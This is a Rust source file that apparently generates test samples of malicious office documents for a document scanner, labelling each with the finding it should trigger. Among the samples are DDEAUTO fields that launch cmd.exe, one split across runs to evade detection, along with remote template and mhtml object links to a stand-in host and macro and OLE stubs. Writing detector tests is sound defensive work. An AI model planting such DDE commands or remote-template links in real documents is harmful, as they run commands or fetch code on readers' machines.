//! Bad documents of office programs.

use obieg_inspect::{Finding, Media};

use super::{Class, class, named};
use crate::make::{compound, docx, odf, relation, relations, xlsx};

pub(super) fn offices() -> Vec<Class> {
    use Finding::*;
    use Media::{Docx, Ods, Odt, Ole, Rtf, Xlsx};
    vec![
        class("DOCM with macros", Docx, &[Macro], |d| {
            let binary = d.bytes(50);
            (named(d, "docm"), docx(d, "", &[("word/vbaProject.bin", binary)]))
        }),
        class("DOCX with macros told only by a relation", Docx, &[Macro], |d| {
            let links = relations(&relation("vbaProject", "dane.bin", false));
            (named(d, "docx"), docx(d, "", &[("word/_rels/document.xml.rels", links)]))
        }),
        class("DOCX with a template from the network", Docx, &[Template], |d| {
            let links = relations(&relation("attachedTemplate", "https://zly.example/a.dotm", true));
            (named(d, "docx"), docx(d, "", &[("word/_rels/settings.xml.rels", links)]))
        }),
        class("DOCX with an object from the network", Docx, &[Template], |d| {
            let links = relations(&relation("oleObject", "mhtml:https://zly.example/a.html", true));
            (named(d, "docx"), docx(d, "", &[("word/_rels/document.xml.rels", links)]))
        }),
        class("DOCX with an OLE object", Docx, &[Object], |d| {
            let links = relations(&relation("oleObject", "embeddings/oleObject1.bin", false));
            (
                named(d, "docx"),
                docx(
                    d,
                    "",
                    &[
                        ("word/_rels/document.xml.rels", links),
                        ("word/embeddings/oleObject1.bin", b"x".to_vec()),
                    ],
                ),
            )
        }),
        class("DOCX with ActiveX", Docx, &[Object], |d| {
            (named(d, "docx"), docx(d, "", &[("word/activeX/activeX1.bin", b"x".to_vec())]))
        }),
        class("DOCX with DDE cut into runs", Docx, &[Dde], |d| {
            (
                named(d, "docx"),
                docx(
                    d,
                    "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r>",
                    &[],
                ),
            )
        }),
        class("DOCX with DDE in a simple field", Docx, &[Dde], |d| {
            (named(d, "docx"), docx(d, "<w:fldSimple w:instr=\"DDE cmd\"/>", &[]))
        }),
        class("XLSX with DDE", Xlsx, &[Dde], |d| {
            (
                named(d, "xlsx"),
                xlsx(
                    d,
                    &[(
                        "xl/externalLinks/externalLink1.xml",
                        b"<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>".to_vec(),
                    )],
                ),
            )
        }),
        class("XLSX with a sheet of old macros", Xlsx, &[Macro], |d| {
            (named(d, "xlsx"), xlsx(d, &[("xl/macrosheets/sheet1.xml", b"<a/>".to_vec())]))
        }),
        class("DOCX with a password", Ole, &[Sealed], |d| {
            (named(d, "docx"), compound(d, &["EncryptionInfo", "EncryptedPackage"], b""))
        }),
        class("DOC with macros", Ole, &[Macro], |d| {
            (named(d, "doc"), compound(d, &["Macros", "VBA", "_VBA_PROJECT"], b""))
        }),
        class("DOC with an object", Ole, &[Object], |d| {
            (named(d, "doc"), compound(d, &["ObjectPool", "\u{1}Ole10Native"], b""))
        }),
        class("DOC with DDE", Ole, &[Dde], |d| {
            (named(d, "doc"), compound(d, &[], b"\x13DDEAUTO c:\\cmd.exe\x14\x15"))
        }),
        class("installation package", Ole, &[Program], |d| (named(d, "msi"), compound(d, &[], b""))),
        class("RTF with an object", Rtf, &[Object], |d| {
            (
                named(d, "rtf"),
                format!("{{\\rtf1 {} {{\\object\\objemb\\objdata 0105}}}}", d.words(3)).into_bytes(),
            )
        }),
        class("RTF with a template from the network", Rtf, &[Template], |d| {
            (
                named(d, "rtf"),
                format!("{{\\rtf1{{\\*\\template http://zly.example/a.dotm}}{}}}", d.words(3)).into_bytes(),
            )
        }),
        class("RTF with DDE", Rtf, &[Dde], |d| {
            (
                named(d, "rtf"),
                format!("{{\\rtf1{{\\field{{\\*\\fldinst DDEAUTO cmd}}}}{}}}", d.words(3)).into_bytes(),
            )
        }),
        class("ODT with macros", Odt, &[Macro], |d| {
            (named(d, "odt"), odf("text", d, "", "", &[("Basic/Standard/Module1.xml", b"<a/>".to_vec())]))
        }),
        class("ODT with a script behind an event", Odt, &[Macro], |d| {
            (
                named(d, "odt"),
                odf("text", d, "<script:event-listener xlink:href=\"vnd.sun.star.script:a\"/>", "", &[]),
            )
        }),
        class("ODT with a password", Odt, &[Sealed], |d| {
            (named(d, "odt"), odf("text", d, "", "<manifest:encryption-data/>", &[]))
        }),
        class("ODS with DDE", Ods, &[Dde], |d| {
            (named(d, "ods"), odf("spreadsheet", d, "<table:dde-link/>", "", &[]))
        }),
        class("ODT with a template from the network", Odt, &[Template], |d| {
            (named(d, "odt"), odf("text", d, "", "", &[("meta.xml", b"<office:meta><meta:template xlink:href=\"http://zly.example/a.ott\"/></office:meta>".to_vec())]))
        }),
        class("ODT with an OLE object", Odt, &[Object], |d| {
            (
                named(d, "odt"),
                odf(
                    "text",
                    d,
                    "",
                    "<manifest:file-entry manifest:media-type=\"application/vnd.sun.star.oleobject\"/>",
                    &[],
                ),
            )
        }),
    ]
}
